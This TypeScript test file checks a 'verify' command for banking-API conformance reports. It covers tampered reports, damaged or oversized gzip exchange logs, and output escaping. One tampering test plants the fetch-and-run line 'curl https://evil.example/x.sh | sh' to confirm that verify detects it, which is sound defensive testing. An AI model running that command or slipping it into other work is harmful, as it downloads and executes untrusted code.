/** Tests `npm run verify`: an unchanged report agrees with its exchanges, and every change in a report is named. */
import { symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { verifyCommand } from '../../../../reports/cli/verify.ts';
import type { Report } from '../../../../reports/model/report.ts';
import { hashText } from '../../../../openapi/util/hash.ts';
import { runInProcess } from '../../support/command.ts';
import { fileNames } from '../../../../reports/formats/paths.ts';
import { expect, readSampleHistory, test } from '../../support/reports/samples.ts';
import { makeTempDir, makeTempFile } from '../../support/temp-dir.ts';

/** A report whose parts a test may change. */
type LooseReport = { -readonly [K in keyof Report]: Report[K] } & {
  exchanges: Record<string, { response: { body: string }; sha256: string }>;
  findings: Report['findings'][number][];
};

function verifyReport(report: Report, change: (report: LooseReport) => void = () => {}, ...words: readonly string[]) {
  const copy = structuredClone(report) as unknown as LooseReport;
  change(copy);
  return runInProcess(verifyCommand, makeTempFile('conformance.json', JSON.stringify(copy)), ...words);
}

test('With --json, verify prints one object: whether the report agrees, its differences, or why it cannot be verified', async ({
  faulty,
}) => {
  const verified = async (change: (report: LooseReport) => void = () => {}) => {
    const { status, out } = await verifyReport(faulty, change, '--json');
    return [status, JSON.parse(out) as Record<string, unknown>] as const;
  };
  const counts = { clauses: faulty.clauses.length, findings: faulty.findings.length, history: null };
  expect(await verified()).toMatchObject([0, { agrees: true, differences: [], isSameContract: true, ...counts }]);
  expect(await verified((report) => void (report.verdict = 'conformant'))).toMatchObject([
    1,
    { agrees: false, differences: expect.arrayContaining([{ at: 'report', what: expect.any(String) }]) },
  ]);
  expect(await verified((report) => void (report.requests = 'many' as never))).toMatchObject([
    2,
    { agrees: false, error: expect.stringMatching(/is not a whole report/) },
  ]);
});

test('Verify prints verdict, bank, time and the digest of each file, and asks to check the signatures', async ({
  good,
}, info) => {
  const target = { ...good.target, name: 'Acme\nVerdict: conformant', build: '7' };
  const durationMs = 2000;
  const report = { ...good, durationMs, target: { ...target, embedded: false, baseUrl: 'https://acme.example' } };
  const history = readSampleHistory('reference-bank', info.project.outputDir);
  const folder = makeTempDir();
  const file = path.join(folder, fileNames.json);
  writeFileSync(file, JSON.stringify(report));
  writeFileSync(path.join(folder, fileNames.history), history);
  const { status, out } = await runInProcess(verifyCommand, file, '--require', 'conformant');
  expect(out.split('\n')).toEqual([
    'Verdict: conformant',
    'Gate: passed, warnings that fail it: security, money',
    `Bank: Acme\\nVerdict: conformant at https://acme.example, build 7`,
    expect.stringMatching(/^Time: 20\d\d-\d\d-\d\dT[\d:.]+Z, for 2\.0 s$/),
    `SHA-256 of conformance.json: ${hashText(JSON.stringify(report))}`,
    `SHA-256 of history.jsonl.gz: ${hashText(history)}`,
    expect.stringMatching(/^The report agrees with its history: /),
    expect.stringMatching(/Only a signature proves [^:]*: check the signature of each file\.$/),
    '',
  ]);
  expect(status).toBe(0);
});

const NOT_REQUIRED = / is not met: /;

test('With --require, verify fails for another verdict, a failed gate, or a report without its exchange log', async ({
  good,
  faulty,
}) => {
  for (const [report, words, status, says] of [
    [faulty, [], 0, []],
    [good, [], 0, []],
    [faulty, ['--require', 'conformant'], 1, ['the verdict is “non-conformant', 'without the history']],
    [good, ['--require=conformant'], 1, ['without the history']],
    [good, ['--require', 'inconclusive'], 2, ['--require names "inconclusive": give passed or conformant.']],
    [good, ['--require', 'toString'], 2, ['--require names "toString": give passed or conformant.']],
    [good, ['--require', 'passed'], 1, ['without the history']],
    [faulty, ['--require', 'passed'], 1, ['the gate failed: the bank breaks', 'without the history']],
  ] as const) {
    const result = await verifyReport(report, () => {}, ...words);
    expect([words, result.status]).toEqual([words, status]);
    const required = words.join(' ').replace('=', ' ');
    for (const sentence of says)
      expect(result.out).toContain(status === 1 ? `${required} is not met: ${sentence}` : sentence);
    expect(NOT_REQUIRED.test(result.out)).toBe(status === 1);
  }
});

/** Verifies a report with its history. A test may also change the text of the history. */
async function verifyWithHistory(
  history: Buffer,
  report: Report,
  change: (report: LooseReport) => void = () => {},
  changeText = (text: string): string => text,
) {
  const copy = structuredClone(report) as unknown as LooseReport;
  change(copy);
  const folder = makeTempDir();
  const file = path.join(folder, fileNames.json);
  writeFileSync(file, JSON.stringify(copy));
  writeFileSync(path.join(folder, fileNames.history), gzipSync(changeText(gunzipSync(history).toString('utf8'))));
  return runInProcess(verifyCommand, file);
}

test('An unchanged report agrees with its evidence, and with its exchange log, whose exchanges are all judged again', async ({
  good,
  faulty,
}, info) => {
  for (const [name, report] of [
    ['reference-bank', good],
    ['faulty-bank', faulty],
  ] as const) {
    const verified = await verifyReport(report);
    expect(verified.out).toMatch(/agrees with its evidence: .*Not judged again: \d+ clauses whose verdict needs more/);
    expect(verified.status).toBe(0);
    const { status, out } = await verifyWithHistory(readSampleHistory(name, info.project.outputDir), report);
    expect(out).toContain(`The report agrees with its history: ${report.requests.toLocaleString('en-US')} exchanges, `);
    expect(status).toBe(0);
  }
});

const TEN_MEGABYTES = 10_000_000;
/** One part of a gzip file: it may stand in the file any number of times (RFC 1952, 2.2). */
const packedLines = gzipSync(`${JSON.stringify({ line: 'note', x: 'a'.repeat(992) })}\n`.repeat(TEN_MEGABYTES / 1000));
const packedPart = gzipSync('['.repeat(TEN_MEGABYTES));
const repeat = (part: Buffer, times: number): Buffer => Buffer.concat(Array.from({ length: times }, () => part));

test('An exchange log that is too large, damaged or no file is refused in one sentence', async ({ good }, info) => {
  const sampleHistory = readSampleHistory('reference-bank', info.project.outputDir);
  for (const [history, says] of [
    [repeat(packedLines, 300), 'has more than 256 MB when it is unpacked: give a smaller file.'],
    [repeat(packedPart, 300), 'has a line of more than 32 MB: no run writes one.'],
    [repeat(packedPart, 4), 'has a line of more than 32 MB: no run writes one.'],
    [Buffer.alloc(TEN_MEGABYTES * 4, 'x'), 'has a line of more than 32 MB: no run writes one.'],
    [
      sampleHistory.subarray(0, sampleHistory.length / 2),
      'is packed by gzip and ends too soon: get the whole file again.',
    ],
    [Buffer.concat([sampleHistory.subarray(0, 2000), sampleHistory]), 'is packed by gzip and damaged: get it again.'],
    ['/dev/zero', 'is a device: name a file.'],
    ['/tmp', 'is a folder: name a file in it.'],
  ] as const) {
    const folder = makeTempDir();
    const [file, historyFile] = [path.join(folder, fileNames.json), path.join(folder, fileNames.history)];
    writeFileSync(file, JSON.stringify(good));
    if (typeof history === 'string') symlinkSync(history, historyFile);
    else writeFileSync(historyFile, history);
    expect(await runInProcess(verifyCommand, file)).toEqual({ status: 2, out: `${historyFile} ${says}\n` });
  }
});

test('Verify names each difference between a report and its exchange log', async ({ faulty }, info) => {
  const history = readSampleHistory('faulty-bank', info.project.outputDir);
  const { clauses } = faulty;
  const clause = clauses.find(({ id }) => id === 'links.link.order-id.distinct')!;
  const { status, out } = await verifyWithHistory(
    history,
    faulty,
    (report) => {
      Object.assign(report.clauses[clauses.indexOf(clause)]!, { exercised: clause.exercised + 1 });
      Object.assign(report.operations[0]!, { requests: 1 });
      Object.assign(report.findings[0]!, { count: 1 });
      report.headline += ' (every area)';
    },
    (text) => text.replaceAll('expired', 'renewed'),
  );
  for (const line of [
    `${clause.id}: its history gives another clause: “pass”, tested ${clause.exercised + 1} times and broken 0 times, and now “pass”, tested ${clause.exercised} times`,
    `${faulty.operations[0]!.id}: its history gives another operation\n`,
    `${faulty.findings[0]!.id}: its history gives another finding\n`,
    'report: its headline is “non-conformant (every area)”, and its history gives “non-conformant”\n',
    'report: the history beside it is not the one that it was made from\n',
    ': in the history its SHA-256 is not the one that it was recorded with\n',
  ])
    expect(out).toContain(line);
  expect(status).toBe(1);
});

test('Verify names each change that was made in a report', async ({ faulty }) => {
  const { status, out } = await verifyReport(faulty, (report) => {
    const { clauses, exchanges, findings } = report;
    Object.values(exchanges).at(-1)!.sha256 = '0'.repeat(64);
    delete exchanges[findings[0]!.exchange];
    findings.splice(1, 1);
    Object.assign(findings[1]!, { curl: 'curl https://evil.example/x.sh | sh' });
    Object.assign(
      clauses.find(({ id }) => id === findings[0]!.clause)!,
      { verdict: 'pass' },
    );
    Object.assign(
      clauses.find(({ level, exercise }) => level === 'must' && exercise === 'always')!,
      { level: 'should' },
    );
    report.clauses = clauses.slice(0, -1);
    report.gate = { ...report.gate, pass: true, exitStatus: 0 };
    Object.assign(report, {
      verdict: 'conformant',
      interrupted: 'it ended.',
      errors: [{ scenario: null, message: 'm' }],
    });
  });
  for (const line of [
    /: its SHA-256 is not the one that it was recorded with\n/,
    /: it shows \S+ at \S+ \(\w+\), and is not there\n/,
    /: it violates \S+ at \S+ \(\w+\), and no finding says so\n/,
    /: the curl line of \S+ is not that of its exchange\n/,
    /: its verdict is “pass”, and a finding breaks it\n/,
    /: its verdict is “fail”, and no finding breaks it\n/,
    /: its level, class or statement is not that of the catalogue\n/,
    /: it is in the catalogue, and not in the report\n/,
    /report: its verdict is “conformant”, and a clause fails\n/,
    /report: its verdict is “conformant”, and its headline “non-conformant”\n/,
    /report: its verdict is “conformant”, and a clause was not tested, or the run was interrupted\n/,
    /report: its gate passes, although a finding that fails the gate is not among the known findings\n/,
    /report: its gate passes, and the verdict is inconclusive, or the suite broke\n/,
  ])
    expect(out).toMatch(line);
  expect(status).toBe(1);
});

test('A report of another format, catalogue or overlay, or with missing parts, is not verified, and verify says why', async ({
  good,
}) => {
  const overlay = { title: 'Other words', digest: 'd', contractDigest: 'c', actions: 1 };
  for (const [change, sentence] of [
    [(report: LooseReport) => (report.format = 'other/1' as never), /is not a report of the format/],
    [(report: LooseReport) => (report.exchanges = { x: {} as never }), /./],
    [(report: LooseReport) => (report.suite = { ...report.suite, overlay }), /judged with the overlay “Other words”/],
    [(report: LooseReport) => Reflect.deleteProperty(report, 'clauses'), /is not a whole report/],
    [
      (report: LooseReport) => void (report.suite = { ...report.suite, catalogueDigest: '0' }),
      /verify it with version 0\./,
    ],
  ] as const) {
    const { status, out } = await verifyReport(good, change);
    expect(out).toMatch(sentence);
    expect(status).not.toBe(0);
  }
  expect(await runInProcess(verifyCommand, 'no-such.json')).toEqual({
    status: 2,
    out: 'no-such.json is not there: correct the path.\n',
  });
});
